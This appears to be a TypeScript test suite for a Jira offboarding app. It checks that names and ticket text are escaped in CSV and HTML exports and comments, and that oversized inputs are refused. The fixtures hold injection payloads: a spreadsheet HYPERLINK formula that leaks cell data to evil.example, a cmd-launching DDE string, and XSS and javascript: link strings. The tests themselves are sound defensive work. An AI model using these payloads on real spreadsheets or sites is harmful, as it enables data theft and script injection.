import { agreedTo, call, offboard } from '../pages/calls';
import { storageOf } from '../faults/end-state';
import { exported } from './evidence/exported';
import { company, peopleWith } from './seeds';
import { FIELDS, OPERATOR, TestSite } from './site';

const FORMULA = 'formula@acme.example';
const MARKUP = 'markup@acme.example';
const FORMULA_NAME = '=HYPERLINK("https://evil.example?"&A1,"Leo")';
const MARKUP_NAME = '<img src=x onerror=alert(1)>{code}[x|https://evil.example] "&';
const GROUPS = ['jira-users-acme', 'design'];
const SEED = company({
  people: peopleWith(
    { email: FORMULA, name: FORMULA_NAME, groups: GROUPS },
    { email: MARKUP, name: MARKUP_NAME, groups: GROUPS },
  ),
});
const EVERYTHING = { kind: 'period', from: '2000-01-01', to: '2099-12-31' } as const;
/** What a spreadsheet takes for a formula at the beginning of a cell. */
const STARTS_FORMULA = /^[=+\-@\t\r]/;
const MILLION = 1_000_000;

describe('what people call themselves and write', () => {
  let site: TestSite;
  beforeAll(async () => {
    site = await TestSite.start(SEED);
  });
  afterAll(() => site.close());
  beforeEach(() => site.reset());

  const textIn = async (ticket: string, text: string) => {
    await site.setFields(ticket, { [FIELDS.leaver]: null, [FIELDS.leaverEmail]: text });
    await site.resolve(ticket);
  };
  /** Jira itself takes no text of this length: it is what its answer says, once, whoever made it so. */
  const answering = async (ticket: string, text: string) => {
    await site.fault([{ target: 'event', path: 'avi:jira:updated:issue', effect: { drop: 'before' } }]);
    await site.transition(ticket, 'Resolve');
    await site.clearFaults();
    const issue = (await site.jira('GET', `issue/${ticket}?expand=changelog`, undefined, OPERATOR)) as {
      id: string;
      fields: Record<string, unknown>;
      changelog: { histories: { id: string }[] };
    };
    const body = { ...issue, fields: { ...issue.fields, [FIELDS.leaver]: null, [FIELDS.leaverEmail]: text } };
    await site.fault([
      { target: 'jira', method: 'GET', path: `issue/${issue.id}?`, times: 1, effect: { status: 200, body } },
    ]);
    const changelog = { id: issue.changelog.histories[0]?.id, items: [{ field: 'status' }] };
    const { id } = issue;
    await site.event({ issue: { id, key: ticket, fields: { project: { key: 'IT' } } }, changelog });
    await site.drain();
  };
  const largestValue = async () => {
    const { keys, entities } = await storageOf(site);
    const values = [
      ...Object.values(keys),
      ...Object.values(entities).flatMap((rows) => Object.values(rows)),
    ];
    return Math.max(...values.map((value) => JSON.stringify(value).length));
  };

  it('never begins a cell of an exported table as a formula would', async () => {
    const changes = { why: '@SUM(1+1)*cmd|/C calc!A0' };
    await offboard(site, [FORMULA], { changes });
    await site.drain();
    const [file] = await exported(site, EVERYTHING, 'csv');
    const cells = (file?.content ?? '')
      .split('\n')
      .flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)(?=,|$)/g) ?? []);
    expect(file?.content).toContain('HYPERLINK');
    expect(file?.content).toContain('cmd|');
    expect(cells.map((cell) => cell.replace(/^"/, '')).filter((cell) => STARTS_FORMULA.test(cell))).toEqual(
      [],
    );
  });

  it('never becomes markup: not in a printable report, and not in a comment', async () => {
    await site.setFields('IT-2', { [FIELDS.leaver]: { accountId: await site.accountId(MARKUP) } });
    await site.resolve('IT-2');
    const [file] = await exported(site, EVERYTHING, 'html');
    expect(file?.content).toContain('&#60;img src=x onerror=alert(1)&#62;');
    expect(file?.content).not.toMatch(/<img|<script/);
    const [comment] = await site.comments('IT-2');
    expect(comment?.text).toContain(MARKUP_NAME);
    const raw = JSON.stringify(await site.jira('GET', 'issue/IT-2/comment', undefined, OPERATOR));
    expect(raw).not.toMatch(/"type":"(media|inlineCard|extension)"|"href":"https:\/\/evil/);
  });

  it('is a text and nothing else in a ticket field, whatever it looks like', async () => {
    const text = '<script>alert(1)</script>{"type":"doc"} [x|javascript:1] h1. *' + '${7*7} \u202e\u0000';
    await textIn('IT-4', text.replace('\u0000', ''));
    const { status, reason } = await site.run();
    expect(status).toBe('refused');
    expect(reason).toContain('<script>alert(1)</script>');
    const raw = JSON.stringify(await site.jira('GET', 'issue/IT-4/comment', undefined, OPERATOR));
    expect(raw).not.toMatch(/"href":"javascript/);
  });

  it.each([
    ['letters', 'a'],
    ['marks of markup', '<'],
    ['signs of several bytes', '離'],
  ])(
    'may be a million %s in a ticket field: it is refused in words, and none of it is kept',
    async (_, sign) => {
      await answering('IT-4', sign.repeat(MILLION));
      expect(await site.run()).toMatchObject({
        status: 'refused',
        reason: expect.stringContaining('holds something else than the rule expects') as unknown,
      });
      expect((await site.comments('IT-4'))[0]?.text.length).toBeLessThan(2_000);
      expect(await largestValue()).toBeLessThan(100_000);
    },
  );

  it('may be no million characters on a page', async () => {
    const agreed = await agreedTo(site, [FORMULA]);
    const why = 'x'.repeat(MILLION / 4);
    await expect(
      call(site, 'operator', 'start', { ...agreed, request: { ...agreed.request, why } }),
    ).rejects.toThrow('at most 500 characters');
    expect(await site.runs()).toEqual([]);
  });
});
